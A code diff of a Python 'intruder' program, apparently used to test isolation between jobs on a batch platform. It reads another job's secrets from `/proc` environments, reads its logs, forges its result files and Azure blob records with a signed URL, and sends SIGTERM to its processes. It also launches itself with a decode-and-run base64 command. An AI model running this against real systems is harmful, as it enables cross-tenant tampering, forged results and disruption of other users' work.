@@ -2,13 +2,14 @@
 
 This file is the job's program, so it imports nothing of ours. It knows one word that the other job was given
 as a secret, and one that it printed, and looks for them as any job could: in `/proc`, and beside its own
-directories. Then it acts, on that job alone: it adds a line to its log, writes that it ended well, uses
-what opens its container, and ends its processes.
+directories. Then it acts, on that job alone: it adds a line to its log, writes that it ended well, also
+into the container that a token of its node's identity opens, and ends its processes.
 """
 
 import base64
 import json
 import os
+import re
 import signal
 import sys
 import time
@@ -33,12 +34,16 @@ _NOTICED = 7.0
 MARK = "the other team was here"
 
 
-def intruding(secret: str, printed: str, name: str) -> str:
-    """The command of a job that runs this program against the job of that name."""
+def intruding(secret: str, printed: str, name: str, identity: str = "") -> str:
+    """The command of a job that runs this program against the job of that name.
+
+    `identity`: the address of a container with a signature, for what the identity of its node opens.
+    """
     program = base64.b64encode(Path(__file__).read_bytes()).decode()
     # Half of each word: this command is itself in an environment.
     words = " ".join(f"{word[:8]} {word[8:]}" for word in (secret, printed, name))
-    return f"echo {program} | base64 -d >intruder.py && python3 intruder.py {words}"
+    opened = base64.b64encode(identity.encode()).decode()
+    return f"echo {program} | base64 -d >intruder.py && python3 intruder.py {words} {opened}"
 
 
 def _environments() -> Iterator[tuple[int, bytes]]:
@@ -66,13 +71,13 @@ def _files(name: str) -> Iterator[Path]:
 class Theirs:
     """What is within reach of the other job."""
 
-    def __init__(self, secret: str, printed: str, name: str) -> None:
+    def __init__(self, secret: str, printed: str, name: str, identity: str) -> None:
         processes = [(number, text) for number, text in _environments() if b"AZ_BATCHAI" in text]
         self.processes = [number for number, text in processes if secret.encode() in text]
         files = list(_files(name))
         self.logs = [path for path in files if path.name == "stdout.txt" and printed in path.read_text()]
         self.attempts = [path.parent for path in files if path.name == "claim.json"]
-        self.plans = [plan for plan in _plans() if f"/{name}" in str(plan.get("records"))]
+        self.container = Container(identity, name) if identity else None
 
     def legible(self) -> dict[str, bool]:
         """What can be read."""
@@ -83,8 +88,8 @@ class Theirs:
         written = [_append(path) for path in self.logs]
         for path in self.attempts:
             _forge(path)
-        for plan in self.plans:
-            _forge_blobs(plan)
+        if self.container:
+            self.container.forge()
         time.sleep(_NOTICED)
         ended = [_signal(one, signal.SIGTERM) for one in self.processes]
         # Those that cannot be signalled have ended, by what was written.
@@ -117,24 +122,38 @@ def _forge(attempt: Path) -> None:
         result.write_text(json.dumps(record))
 
 
-def _plans() -> list[dict[str, Any]]:
-    """The plans of programs, with the signatures in them, in the environments of all processes."""
-    plans = []
-    for _, text in _environments():
-        with suppress(ValueError):
-            words = (word.partition("=") for word in text.decode().split("\0"))
-            plans += [json.loads(value) for name, _, value in words if name == "SLIPWAY_PLAN"]
-    return plans
+class Container:
+    """The records of the other job in the container of its cluster."""
 
+    def __init__(self, address: str, name: str) -> None:
+        self._address, _, self._signature = address.partition("?")
+        self._name = name
 
-def _forge_blobs(plan: dict[str, Any]) -> None:
-    """The same in a container, with the signature that was in an environment."""
-    with suppress(OSError, ValueError, KeyError):
-        where = json.loads(plan["records"])
-        body = json.dumps({"token": plan["token"], "ended": _record(plan["token"], "x")}).encode()
-        url = f"{where['container']}/{where['prefix']}/turns/2?{where['signature']}"
+    def forge(self) -> None:
+        """Write that the other job ended well, as its own program would, and ask it to end."""
+        for name in self._names():
+            attempt, _, rest = name.rpartition("/turns/")
+            if rest.isdigit():
+                turn = json.loads(self._call("GET", name))
+                forged = {"token": turn.get("token"), "ended": _record(str(turn.get("token")), "x")}
+                self._call("PUT", f"{attempt}/turns/{int(rest) + 1}", forged)
+                self._call("PUT", f"{attempt}/asked", {"asked": time.time()})
+            elif name.endswith("/result.json"):
+                record = json.loads(self._call("GET", name))
+                forged = {**record, **_record(record["token"], record["run"])}
+                self._call("PUT", name, forged)
+
+    def _names(self) -> list[str]:
+        listed = self._call("GET", "", query="restype=container&comp=list&").decode()
+        return [one for one in re.findall("<Name>([^<]*)</Name>", listed) if f"/{self._name}" in one]
+
+    def _call(self, method: str, name: str, body: dict[str, Any] | None = None, query: str = "") -> bytes:
         headers = {"x-ms-blob-type": "BlockBlob", "x-ms-version": "2021-12-02"}
-        urllib.request.urlopen(urllib.request.Request(url, body, headers, method="PUT")).close()
+        url = f"{self._address}{'/' if name else ''}{name}?{query}{self._signature}"
+        data = json.dumps(body).encode() if body is not None else None
+        request = urllib.request.Request(url, data, headers, method=method)
+        with urllib.request.urlopen(request) as answer:
+            return bytes(answer.read())
 
 
 def _exposed() -> frozenset[int]:
@@ -156,17 +175,18 @@ def main() -> None:
     """
     words = sys.argv[1:]
     secret, printed, name = ("".join(words[at : at + 2]) for at in (0, 2, 4))
+    identity = base64.b64decode("".join(words[6:])).decode()
     reached, before = dict[str, bool](), _exposed()
     for _ in range(_LOOKS):
         time.sleep(_EVERY)
         exposed = _exposed()
-        theirs = Theirs(secret, printed, name)
+        theirs = Theirs(secret, printed, name, identity)
         now = {**theirs.legible(), "keys": bool(exposed & before)}
         before = exposed
         reached = {probe: now[probe] or reached.get(probe, False) for probe in now}
         if reached["environ"] and reached["output"]:
             break
-    reached.update(Theirs(secret, printed, name).acted())
+    reached.update(Theirs(secret, printed, name, identity).acted())
     sys.stdout.write(json.dumps(reached))
 
 
